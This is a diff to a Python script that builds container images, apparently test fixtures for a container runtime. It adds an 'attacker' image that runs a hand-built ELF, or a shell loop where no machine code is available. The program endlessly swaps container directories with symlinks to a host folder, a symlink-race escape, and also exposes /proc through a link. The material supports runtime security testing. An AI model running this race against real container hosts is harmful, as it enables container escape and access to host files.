@@ -12,6 +12,7 @@ from __future__ import annotations
 import os
 import platform
 import re
+import struct
 import subprocess
 import sys
 import typing as t
@@ -100,6 +101,26 @@ ARGUMENTS = [
     "tab\there",
     "",
 ]
+# Lets directories change places with links that lead to the node.
+_ATTACK = """\
+#!/bin/sh
+trap 'exit 0' TERM
+/bin/swap &
+wait
+"""
+# The same where there is no machine code for it, which takes much longer to get something.
+_SLOW = """\
+#!/bin/sh
+while true; do
+    for number in {numbers}; do
+        mv "/tree/d$number" /tree/away
+        mv "/tree/l$number" "/tree/d$number"
+        mv "/tree/d$number" "/tree/l$number"
+        mv /tree/away "/tree/d$number"
+    done
+done
+"""
+_SWAPPED = range(8)
 ENVIRONMENT = {
     "PATH": "/usr/bin:/bin",
     "QUOTED": 'it\'s "both" $HOME \\ %h',
@@ -172,6 +193,53 @@ def _image(base: Layer, version: int, *more: t.Any, **config: t.Any) -> Image:
     )
 
 
+def _swap() -> bytes:
+    """A program that exchanges /tree/dN and /tree/lN without an end."""
+    if platform.machine() != "x86_64":
+        return _SLOW.format(numbers=" ".join(map(str, _SWAPPED))).encode()
+    names = [b"/tree/%c%d\0" % (kind, n) for n in _SWAPPED for kind in b"dl"]
+    # mov eax, renameat2; mov edi, AT_FDCWD; lea rsi, first; mov edx, AT_FDCWD; lea r10, second; mov r8d, exchange; syscall
+    call = struct.Struct("<BI BI 3si BI 3si 2sI 2s")
+    here = struct.Struct("<BI")
+    code = b""
+    texts = call.size * len(_SWAPPED) + here.size
+    for number in _SWAPPED:
+        first = texts + sum(map(len, names[: 2 * number])) - len(code)
+        second = first + len(names[2 * number])
+        at_fdcwd = 2**32 - 100
+        rsi, r10 = (b"\x48\x8d\x35", first - 17), (b"\x4c\x8d\x15", second - 29)
+        call_fields = (0xB8, 316, 0xBF, at_fdcwd, *rsi, 0xBA, at_fdcwd, *r10)
+        code += call.pack(*call_fields, b"\x41\xb8", 2, b"\x0f\x05")
+    code += here.pack(0xE9, 2**32 - len(code) - here.size) + b"".join(names)
+    start, size = 0x400000, 64 + 56 + len(code)
+    ident = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
+    header = (2, 62, 1, start + 120, 64, 0, 0, 64, 56, 1, 64, 0, 0)
+    segment = (1, 5, 0, start, start, size, size, 0x1000)
+    return (
+        struct.pack("<16sHHIQQQIHHHHHH", ident, *header)
+        + struct.pack("<IIQQQQQQ", *segment)
+        + code
+    )
+
+
+def _attacker(base: Layer, outside: str) -> Image:
+    """A container that wants to have what lies in a folder of the node's."""
+    pairs = [
+        (directory(f"tree/d{number}", 0o755), symlink(f"tree/l{number}", outside))
+        for number in _SWAPPED
+    ]
+    attack = Layer(
+        *(entry for pair in pairs for entry in pair),
+        file("bin/attack", _ATTACK, 0o755),
+        file("bin/swap", _swap(), 0o755),
+        # one place of the runtime's by its name, and one by a link
+        symlink("p", "/proc"),
+    )
+    volumes: dict[str, t.Any] = {"/proc": {}, "/p": {}}
+    config = {"Entrypoint": ["/bin/attack"], "Cmd": [], "Volumes": volumes}
+    return _image(base, 5, attack, **config, User="", WorkingDir="/", StopSignal="TERM")
+
+
 def main() -> int:
     """Write the images into a folder."""
     folder, program = sys.argv[1:]
@@ -185,6 +253,7 @@ def main() -> int:
         "three": _image(base, 3, Entrypoint=["/bin/nothing"], Cmd=[]),
         # its last layer is damaged
         "four": _image(base, 4, broken),
+        "five": _attacker(base, os.path.join(os.path.abspath(folder), "outside")),
     }
     for name, image in images.items():
         write_oci_archive(os.path.join(folder, f"{name}.oci.tar"), image)
